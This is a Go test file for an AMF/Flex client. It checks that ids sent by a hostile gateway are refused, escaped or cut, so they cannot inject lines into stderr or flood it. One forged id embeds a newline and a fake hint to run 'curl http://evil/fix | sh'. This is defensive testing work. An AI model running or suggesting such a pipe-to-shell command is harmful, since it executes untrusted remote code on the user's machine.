package client

import (
	"context"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/amfcall/amfcall/amf"
	"github.com/amfcall/amfcall/amf/amftest"
)

// ackServer answers every request with an AcknowledgeMessage of the
// given DSId header, clientId and correlationId.
func ackServer(t *testing.T, dsid, clientID, correlation string) string {
	ack := &amf.Object{Class: amf.FlexMessagePrefix + "AcknowledgeMessage", Members: []amf.Member{
		{Name: "headers", Value: &amf.Object{Members: []amf.Member{{Name: "DSId", Value: dsid}}}},
		{Name: "clientId", Value: clientID},
		{Name: "correlationId", Value: correlation},
		{Name: "body", Value: nil},
	}}
	body, err := amf.MarshalPacket(&amf.Packet{Version: 3, Messages: []amf.Message{
		{Target: "/1/onResult", Response: "null", Value: amf.AVMPlus{Value: ack}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	srv := server(t, func(w http.ResponseWriter, r *http.Request) {
		req, _ := io.ReadAll(r.Body)
		w.Header().Set("Content-Type", ContentType)
		w.Write(amftest.RenumberReply(body, req))
	})
	return srv.URL + "/gw"
}

// A hostile Flex gateway's ids: the DSId was kept as it was (any string
// of up to 256 bytes) and "logout -v" printed it ("logged out (DSId
// ...)") with its newline, so a line of the gateway's making reached
// stderr; a subscription's clientId, of any length and any bytes, was
// printed the same way by "subscribe -v"; and the warning about an
// acknowledgement's correlationId quoted it whole (a 16 MiB id wrote 16
// MiB of stderr at each call). Such ids are now refused (the DSId
// ignored with a warning, the subscription failed with an error), and
// the correlationId is cut at 80 bytes.
func TestHostileFlexIDs(t *testing.T) {
	forged := "A1\namfcall: hint: run curl http://evil/fix | sh"
	rec := &recorder{}
	c := newClient(t, ackServer(t, forged, "c1", strings.Repeat("x", 1<<20)), Config{Events: rec, Flex: true})
	if err := c.FlexPing(context.Background()); err != nil {
		t.Fatal(err)
	}
	if got := c.DSId(); got != "nil" {
		t.Errorf("the DSId %q was kept", got)
	}
	n := 0
	for _, w := range rec.warns {
		n += len(w)
		if strings.Contains(w, "\n") {
			t.Errorf("a warning holds a newline: %q", w)
		}
	}
	if n > 2000 {
		t.Errorf("the warnings are %d bytes (a 1 MiB correlationId), want it cut", n)
	}
	if !strings.Contains(strings.Join(rec.warns, "|"), `ignored the DSId the gateway gave, "A1\x0aamfcall`) {
		t.Errorf("no warning names the DSId ignored: %q", rec.warns)
	}

	// A good DSId is kept, as before.
	c = newClient(t, ackServer(t, "3F2504E0-4F89-11D3-9A0C-0305E82C3301", "c1", ""), Config{Flex: true})
	if err := c.FlexPing(context.Background()); err != nil || c.DSId() != "3F2504E0-4F89-11D3-9A0C-0305E82C3301" {
		t.Errorf("a UUID DSId: %v, DSId %q", err, c.DSId())
	}

	// A subscription whose clientId is not an id.
	for _, id := range []string{forged, strings.Repeat("y", 300)} {
		c = newClient(t, ackServer(t, "D1", id, ""), Config{Flex: true})
		sub, err := c.Subscribe(context.Background(), "chat", "", "")
		var he *HTTPError
		if err == nil || !errors.As(err, &he) || strings.Contains(err.Error(), "\n") || len(err.Error()) > 600 {
			t.Errorf("clientId %.20q: got %v, %v; want an error with the id escaped and cut", id, sub, err)
		}
	}
	c = newClient(t, ackServer(t, "D1", "C0FFEE00-1111-2222-3333-444455556666", ""), Config{Flex: true})
	if sub, err := c.Subscribe(context.Background(), "chat", "", ""); err != nil || sub.ID != "C0FFEE00-1111-2222-3333-444455556666" {
		t.Errorf("a UUID clientId: %v, %v", sub, err)
	}
}
